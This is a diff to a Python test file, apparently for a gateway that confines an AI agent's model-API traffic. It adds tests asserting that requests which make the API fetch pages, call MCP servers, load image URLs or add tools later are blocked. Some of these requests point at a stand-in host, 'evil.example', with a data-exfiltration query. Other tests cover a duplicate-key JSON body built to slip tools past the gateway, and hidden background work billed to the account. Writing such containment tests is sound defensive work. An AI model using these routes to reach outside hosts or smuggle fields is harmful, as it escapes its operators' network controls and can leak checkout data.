@@ -16,8 +16,11 @@ if TYPE_CHECKING:
     from agent_runner.gateway.server import Gateway
 
 MESSAGES = "/anthropic/v1/messages"
+COUNT = "/anthropic/v1/messages/count_tokens"
 RESPONSES = "/openai/v1/responses"
 EVIL = "https://evil.example/?data=what-the-checkout-holds"
+
+FETCH = {"type": "web_fetch_20250910", "name": "web_fetch"}
 
 
 def said(*content: dict[str, Any]) -> dict[str, Any]:
@@ -26,7 +29,7 @@ def said(*content: dict[str, Any]) -> dict[str, Any]:
 
 REACHING: dict[str, tuple[str, dict[str, Any]]] = {
     "an MCP server": (MESSAGES, {"mcp_servers": [{"type": "url", "url": EVIL, "name": "x"}]}),
-    "a page": (MESSAGES, {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
+    "a page": (MESSAGES, {"tools": [FETCH]}),
     "a search": (MESSAGES, {"tools": [{"type": "web_search_20250305", "name": "web_search"}]}),
     "a sandbox": (MESSAGES, {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}),
     "a picture": (MESSAGES, said({"type": "image", "source": {"type": "url", "url": EVIL}})),
@@ -46,11 +49,26 @@ REACHING: dict[str, tuple[str, dict[str, Any]]] = {
         RESPONSES, {"input": [{"role": "user", "content": [{"type": "input_file", "file_id": "file_1"}]}]}
     ),
     "a conversation of others, OpenAI": (RESPONSES, {"conversation": "conv_1"}),
+    "a response of others, OpenAI": (RESPONSES, {"previous_response_id": "resp_1"}),
+    "a page while tokens are counted": (COUNT, said({"type": "image", "source": {"type": "url", "url": EVIL}})),
+    "a picture among results": (
+        MESSAGES,
+        said({"type": "tool_result", "content": [{"type": "image", "source": {"type": "url", "url": EVIL}}]}),
+    ),
+    "a tool that comes later": (
+        MESSAGES, said({"type": "tool_addition", "tool": {"type": "tool_definition", "definition": FETCH}})
+    ),
+    "a tool that comes later, OpenAI": (
+        RESPONSES, {"input": [{"type": "additional_tools", "tools": [{"type": "web_search"}]}]}
+    ),
+    "a tool among others, OpenAI": (
+        RESPONSES, {"tools": [{"type": "namespace", "name": "x", "tools": [{"type": "web_search"}]}]}
+    ),
 }  # fmt: skip
 
 
 def body(path: str, changes: dict[str, Any]) -> bytes:
-    if path == MESSAGES:
+    if path != RESPONSES:
         return message_body(**changes)
     return json.dumps({"model": "gpt-5.5", "input": "x", **changes}).encode()
 
@@ -66,13 +84,20 @@ async def passed(world: AttackWorld, gateway: Gateway) -> list[str]:
     return through
 
 
-@pytest.mark.xfail(reason="the gateway passes on what asks the API itself to reach other hosts", strict=True)
 async def test_other_hosts_through_the_model_api(world: AttackWorld) -> None:
     """Past the pod's network policy: the API fetches pages, speaks to servers and opens files of the account."""
     assert await passed(world, await world.gateway()) == []
 
 
-@pytest.mark.xfail(reason="a response in the background costs what nobody sees", strict=True)
+async def test_field_that_is_named_twice(world: AttackWorld) -> None:
+    """The gateway would judge the last of the two, and the API may take the first."""
+    gateway = await world.gateway()
+    twice = body(MESSAGES, {"tools": [FETCH]})[:-1] + b', "tools": []}'
+    assert json.loads(twice)["tools"] == []
+    assert await world.ask(gateway, f"POST {MESSAGES}", body=twice) == 400
+    assert world.model.seen == []
+
+
 async def test_work_in_the_background(world: AttackWorld) -> None:
     """The answer comes at once and tells no use; the model works on, at the account's cost."""
 
@@ -87,7 +112,6 @@ async def test_work_in_the_background(world: AttackWorld) -> None:
     assert status == 400 or gateway.ledger.usd >= 3.84
 
 
-@pytest.mark.xfail(reason="the price of a call is that of the standard tier", strict=True)
 @pytest.mark.parametrize(
     ("path", "changes"),
     [
